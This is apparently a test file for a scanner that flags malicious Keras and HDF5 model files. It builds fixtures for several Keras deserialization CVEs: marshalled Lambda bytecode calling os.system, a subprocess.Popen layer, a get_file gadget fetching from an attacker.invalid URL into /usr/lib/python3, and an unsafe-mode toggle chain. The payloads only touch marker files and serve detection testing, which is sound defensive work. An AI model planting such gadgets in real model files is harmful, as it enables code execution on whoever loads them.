"""Keras: models written by Keras itself are clean except for real Lambda layers; one fixture
per CVE gadget; legacy HDF5 model_config; the marshal reader never crashes."""

from __future__ import annotations

import base64
import json
import marshal
import os
import zipfile
from pathlib import Path
from typing import Any

import h5py
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.formats.keras import analyze_config, describe_lambda
from airlock.formats.pymarshal import MarshalError, read_code
from airlock.scan.engine import run_handler
from airlock.scan.handlers.hdf5 import HDF5Handler
from airlock.scan.handlers.keras import KerasZipHandler
from airlock.scan.interface import ScanContext, Source

os.environ.setdefault("KERAS_BACKEND", "torch")


def scan(path: Path, handler: Any) -> list[str]:
    data = path.read_bytes()
    src = Source(data, path)
    assert handler.sniff(src)
    out = run_handler(handler, src, ScanContext(str(path), fs_path=path))
    return sorted({f.rule_id for f in out.findings})


def keras_zip(path: Path, config: dict[str, Any]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"")
    return path


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": list(layers)},
        "registered_name": None,
    }


def lambda_layer(function: Any, arguments: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "l", "function": function, "arguments": arguments or {}},
        "registered_name": None,
    }


def bytecode(marker: str) -> str:
    fn = lambda x: __import__("os").system("touch " + marker)  # noqa: E731
    return base64.b64encode(marshal.dumps(fn.__code__)).decode()


@pytest.fixture(scope="module")
def real_models(tmp_path_factory: pytest.TempPathFactory) -> Path:
    keras = pytest.importorskip("keras", reason="needs group test")
    d = tmp_path_factory.mktemp("keras")
    inp = keras.Input((8,))
    x = keras.layers.Dense(4, activation="relu", kernel_regularizer=keras.regularizers.L2(0.01))(
        inp
    )
    x = keras.layers.BatchNormalization()(keras.layers.Dropout(0.1)(x))
    out = keras.layers.Dense(2, activation=keras.activations.softmax)(x)
    m = keras.Model(inp, out)
    m.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
    m.save(d / "m.keras")
    m.save(d / "m.h5")
    s = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2)])
    s.save(d / "lambda.keras")
    return d


def test_keras_written_models_are_clean(real_models: Path) -> None:
    assert scan(real_models / "m.keras", KerasZipHandler()) == []
    assert scan(real_models / "m.h5", HDF5Handler()) == []


def test_keras_written_lambda_is_flagged_and_decoded(real_models: Path) -> None:
    out = KerasZipHandler().scan(
        Source((real_models / "lambda.keras").read_bytes()), ScanContext("lambda.keras")
    )
    ids = {f.rule_id for f in out.findings}
    assert ids == {"AIR-KERAS-001", "AIR-KERAS-004"}
    ev = next(f.evidence for f in out.findings if f.rule_id == "AIR-KERAS-001")
    assert "<lambda>" in ev
    assert all(c.name != "config.json" for c in out.children)


def test_weights_member_is_left_to_the_engine(real_models: Path) -> None:
    out = KerasZipHandler().scan(Source((real_models / "m.keras").read_bytes()), ScanContext("m"))
    assert {c.name for c in out.children} == {"metadata.json", "model.weights.h5"}


def test_cve_2024_3660_lambda_bytecode(tmp_path: Path) -> None:
    marker = str(tmp_path / "pwned")
    p = keras_zip(
        tmp_path / "a.keras",
        sequential(
            lambda_layer(
                {
                    "class_name": "__lambda__",
                    "config": {"code": bytecode(marker), "defaults": None, "closure": None},
                }
            )
        ),
    )
    handler = KerasZipHandler()
    out = handler.scan(Source(p.read_bytes()), ScanContext("a.keras"))
    ev = next(f.evidence for f in out.findings if f.rule_id == "AIR-KERAS-001")
    assert "system" in ev and "__import__" in ev and "touch " in ev
    assert not Path(marker).exists()  # decoded, never executed


def test_cve_2025_1550_foreign_module(tmp_path: Path) -> None:
    layer = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": ["touch", str(tmp_path / "x")]},
        "registered_name": None,
    }
    p = keras_zip(tmp_path / "b.keras", sequential(layer))
    out = KerasZipHandler().scan(Source(p.read_bytes()), ScanContext("b.keras"))
    (f,) = out.findings
    assert f.rule_id == "AIR-KERAS-002" and str(f.severity) == "critical"
    assert "CVE-2025-1550" in (f.reference or "")


def test_cve_2025_8747_get_file_gadget(tmp_path: Path) -> None:
    fn = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "function",
    }
    p = keras_zip(
        tmp_path / "c.keras",
        sequential(
            lambda_layer(
                fn, {"origin": "https://attacker.invalid/evil.py", "cache_dir": "/usr/lib/python3"}
            )
        ),
    )
    assert scan(p, KerasZipHandler()) == ["AIR-KERAS-003", "AIR-KERAS-004"]


def test_cve_2025_9906_unsafe_toggle_then_lambda(tmp_path: Path) -> None:
    toggle = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    stage2 = {
        "module": "keras.models",
        "class_name": "function",
        "config": "load_model",
        "registered_name": "function",
    }
    p = keras_zip(
        tmp_path / "d.keras",
        sequential(
            lambda_layer(toggle),
            lambda_layer(stage2, {"safe_mode": False}),
            lambda_layer({"class_name": "__lambda__", "config": {"code": bytecode("/tmp/x")}}),
        ),
    )
    assert scan(p, KerasZipHandler()) == [
        "AIR-KERAS-001",
        "AIR-KERAS-003",
        "AIR-KERAS-004",
        "AIR-KERAS-005",
    ]


def test_tfsm_layer_and_custom_objects() -> None:
    doc = sequential(
        {
            "module": "keras.layers",
            "class_name": "TFSMLayer",
            "config": {"filepath": "/mnt/elsewhere/saved_model"},
        },
        {
            "module": "my_pkg.layers",
            "class_name": "Custom",
            "config": {},
            "registered_name": "my_pkg>Custom",
        },
    )
    kinds = {(i.kind, i.critical) for i in analyze_config(doc)}
    assert kinds == {("external-model", True), ("foreign-module", False)}


def test_vocabulary_file_path(tmp_path: Path) -> None:
    """rt14: a StringLookup/TextVectorization whose config vocabulary is a path outside the
    archive: Keras 3.15 (TF backend) with safe_mode=False read it into the layer at load."""
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "s", "vocabulary": "/tmp/rt14/outside_vocab.txt"},
    }
    p = keras_zip(tmp_path / "v.keras", sequential(layer))
    assert scan(p, KerasZipHandler()) == ["AIR-KERAS-010"]
    layer["config"]["vocabulary"] = ["a", "b"]  # as Keras saves it
    assert scan(keras_zip(tmp_path / "h.keras", sequential(layer)), KerasZipHandler()) == []
    layer["config"]["vocabulary"] = None
    assert scan(keras_zip(tmp_path / "n.keras", sequential(layer)), KerasZipHandler()) == []


def test_legacy_hdf5_lambda(tmp_path: Path) -> None:
    code = bytecode("/tmp/y")
    cfg = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": [code, None, None],
                        "function_type": "lambda",
                        "module": "__main__",
                        "output_shape": None,
                        "output_shape_type": "raw",
                    },
                },
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "m",
                        "function": "system",
                        "function_type": "function",
                        "module": "os",
                    },
                },
            ],
        },
    }
    p = tmp_path / "legacy.h5"
    with h5py.File(p, "w") as f:
        f.attrs["model_config"] = json.dumps(cfg)
        f.attrs["keras_version"] = "2.15.0"
    assert scan(p, HDF5Handler()) == ["AIR-KERAS-001", "AIR-KERAS-002", "AIR-KERAS-004"]


def test_hdf5_member_in_memory_and_damaged(tmp_path: Path) -> None:
    p = tmp_path / "w.h5"
    with h5py.File(p, "w") as f:
        f.create_dataset("x", data=[1, 2, 3])
    data = p.read_bytes()
    out = HDF5Handler().scan(Source(data), ScanContext("a.zip", member="w.h5"))
    assert out.findings == [] and out.format == "hdf5"
    bad = data[:600]
    out = run_handler(HDF5Handler(), Source(bad), ScanContext("bad.h5", member="x"))
    assert [f.rule_id for f in out.findings] == ["AIR-KERAS-008"] and out.not_scanned


def test_unparseable_config(tmp_path: Path) -> None:
    p = tmp_path / "e.keras"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("metadata.json", "{}")
        z.writestr("config.json", "[" * 100000)
    assert scan(p, KerasZipHandler()) == ["AIR-KERAS-000"]


def test_marshal_reader_on_real_code() -> None:
    def sample(a: int, b: int = 3) -> Any:
        import subprocess

        return subprocess.check_output(["echo", str(a + b)]), 1.5, b"raw", (1, "a"), -7

    s = read_code(marshal.dumps(sample.__code__))
    assert s.name == "sample" and "subprocess" in s.names and "check_output" in s.names
    assert "echo" in s.all_strings()
    text, summary = describe_lambda(base64.b64encode(marshal.dumps(sample.__code__)).decode())
    assert summary is not None and "dangerous names" in text


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=300))
def test_marshal_reader_only_raises_marshal_error(data: bytes) -> None:
    try:
        read_code(data)
    except MarshalError:
        pass


@settings(max_examples=300, deadline=None)
@given(st.integers(0, 400), st.binary(min_size=1, max_size=16))
def test_marshal_reader_on_mutated_code(pos: int, noise: bytes) -> None:
    raw = marshal.dumps(test_marshal_reader_on_real_code.__code__)
    pos %= len(raw)
    data = raw[:pos] + noise + raw[pos + len(noise) :]
    try:
        read_code(data)
    except MarshalError:
        pass


def test_real_models_through_engine(real_models: Path) -> None:
    from airlock.scan.engine import scan as engine_scan

    report = engine_scan(real_models)
    assert all(o.status == "scanned" for o in report.objects), report.objects
    by_file = {Path(f.location).name for f in report.findings}
    assert by_file == {"lambda.keras"}
    formats = {o.format for o in report.objects}
    assert {"keras", "keras-h5", "hdf5"} <= formats


def test_legacy_tf_op_lambda_gadgets() -> None:
    def layer(fn: str) -> dict[str, Any]:
        return {"class_name": "TFOpLambda", "config": {"name": "t", "function": fn}}

    benign = {
        "class_name": "Functional",
        "config": {
            "layers": [
                layer("math.multiply"),
                layer("__operators__.add"),
                layer("compat.v1.transpose"),
            ]
        },
    }
    assert analyze_config(benign) == []
    for fn in ("io.write_file", "raw_ops.ReadFile", "py_function", "compat.v1.py_func"):
        doc = {"class_name": "Functional", "config": {"layers": [layer(fn)]}}
        assert [i.kind for i in analyze_config(doc)] == ["gadget-function"], fn


def test_lambda_payload_is_real_and_flagged(tmp_path: Path) -> None:
    """Keras' own saver writes the malicious Lambda; the scanner flags it without running it;
    loading it with safe_mode=False (only here, to prove the fixture) does run the payload."""
    keras = pytest.importorskip("keras", reason="needs group test")
    marker = tmp_path / "pwned"
    cmd = f"touch {marker}"
    layer = keras.layers.Lambda(lambda t: (__import__("os").system(cmd), t)[1])
    model = keras.Sequential([keras.Input((2,)), layer])
    marker.unlink(missing_ok=True)  # building the model may already have run it
    p = tmp_path / "evil.keras"
    model.save(p)
    out = KerasZipHandler().scan(Source(p.read_bytes()), ScanContext(str(p)))
    ev = next(f.evidence for f in out.findings if f.rule_id == "AIR-KERAS-001")
    assert "system" in ev and not marker.exists()
    import numpy as np

    loaded = keras.saving.load_model(p, safe_mode=False)
    loaded(np.zeros((1, 2), "float32"))
    assert marker.exists()


def dotted(layer: dict[str, Any]) -> dict[str, Any]:
    """``module "keras"`` + ``class_name "layers.X"``: Keras 3 resolves ``f"{module}.{name}"``
    among its exported names, so this is layer X under another spelling."""
    module, name = layer["module"], layer["class_name"]
    return {**layer, "module": "keras", "class_name": f"{module[len('keras.') :]}.{name}"}


def test_dotted_class_and_function_names_are_resolved_like_keras(tmp_path: Path) -> None:
    """Session 15: before, a dotted Lambda was no finding and dotted gadget functions medium."""
    relu = {"module": "keras.ops", "class_name": "function", "config": "relu"}
    p = keras_zip(tmp_path / "a.keras", sequential(dotted(lambda_layer(relu))))
    assert scan(p, KerasZipHandler()) == ["AIR-KERAS-004"]
    for fn_name in ("utils.get_file", "datasets.mnist.load_data", "layers.TFSMLayer"):
        fn = {"module": "keras", "class_name": "function", "config": fn_name}
        p = keras_zip(tmp_path / "b.keras", sequential(dotted(lambda_layer(fn))))
        found = KerasZipHandler().scan(Source(p.read_bytes(), p), ScanContext(str(p))).findings
        assert {(f.rule_id, f.severity.name) for f in found} >= {
            ("AIR-KERAS-003", "CRITICAL"),
            ("AIR-KERAS-004", "HIGH"),
        }, fn_name
    tfsm = {"module": "keras", "class_name": "layers.TFSMLayer", "config": {"filepath": "/x"}}
    assert analyze_config(sequential(tfsm))[0].kind == "external-model"


def test_dotted_torch_module_wrapper_payload_is_extracted() -> None:
    from airlock.formats.keras import torch_module_payloads

    node = {"module": "keras", "class_name": "layers.TorchModuleWrapper",
            "config": {"module": base64.b64encode(b"\x80\x02N.").decode()}}  # fmt: skip
    assert [data for _, data in torch_module_payloads(sequential(node))] == [b"\x80\x02N."]


def test_dotted_lambda_runs_in_keras_safe_mode_and_is_denied(tmp_path: Path) -> None:
    """Oracle: Keras (default safe_mode) rebuilds a ``layers.Lambda`` whose function is a public
    Keras function and calls it at load with node arguments from the file (harmless payload:
    ``keras.config.set_epsilon([])`` in the loading process)."""
    pytest.importorskip("keras", reason="needs group test")
    import subprocess
    import sys

    script = r"""
import json, os, sys, zipfile
os.environ["KERAS_BACKEND"] = "torch"
import keras
out = sys.argv[1]
inp = keras.Input((4,))
keras.Model(inp, keras.layers.Lambda(keras.ops.relu, name="lam")(inp)).save(out + ".h.keras")
src = zipfile.ZipFile(out + ".h.keras")
cfg = json.loads(src.read("config.json"))
lam = cfg["config"]["layers"][1]
lam["module"], lam["class_name"] = "keras", "layers.Lambda"
lam["config"]["function"] = {"module": "keras", "class_name": "function",
                             "config": "config.set_epsilon", "registered_name": "function"}
lam["inbound_nodes"][0]["args"] = [[]]
with zipfile.ZipFile(out, "w") as z:
    for n in src.namelist():
        z.writestr(n, json.dumps(cfg) if n == "config.json" else src.read(n))
try:
    keras.saving.load_model(out)
except Exception:
    pass
print(repr(keras.config.epsilon()))
"""
    p = tmp_path / "dotted.keras"
    env = {**os.environ, "KERAS_BACKEND": "torch"}
    run = subprocess.run(
        [sys.executable, "-c", script, str(p)], capture_output=True, text=True, env=env,
        timeout=600, check=False,
    )  # fmt: skip
    if run.returncode != 0:
        pytest.skip(f"keras could not build the fixture: {run.stderr[-300:]}")
    assert run.stdout.strip().splitlines()[-1] == "[]"  # the loader called set_epsilon([])
    assert "AIR-KERAS-004" in scan(p, KerasZipHandler())


def test_application_constructors_and_plots_as_layer_arguments_are_gadgets() -> None:
    """review15: ``keras.applications.*`` constructors fetch weights through get_file and
    ``keras.visualization.plot_*`` save figures to a path; as an activation they were only
    'unusual' (medium). Public activations stay clean."""
    for module, fn in (
        ("keras.applications", "ResNet50V2"),
        ("keras.applications.resnet_v2", "ResNet50V2"),
        ("keras.visualization", "plot_image_gallery"),
        ("keras", "applications.ResNet50V2"),
    ):
        act = {"module": module, "class_name": "function", "config": fn}
        dense = {"module": "keras.layers", "class_name": "Dense",
                 "config": {"units": 2, "activation": act}}  # fmt: skip
        issues = analyze_config(sequential(dense))
        assert [(i.kind, i.critical) for i in issues] == [("gadget-function", True)], (module, fn)
    act = {"module": "keras.activations", "class_name": "function", "config": "relu"}
    dense = {"module": "keras.layers", "class_name": "Dense",
             "config": {"units": 2, "activation": act}}  # fmt: skip
    assert analyze_config(sequential(dense)) == []
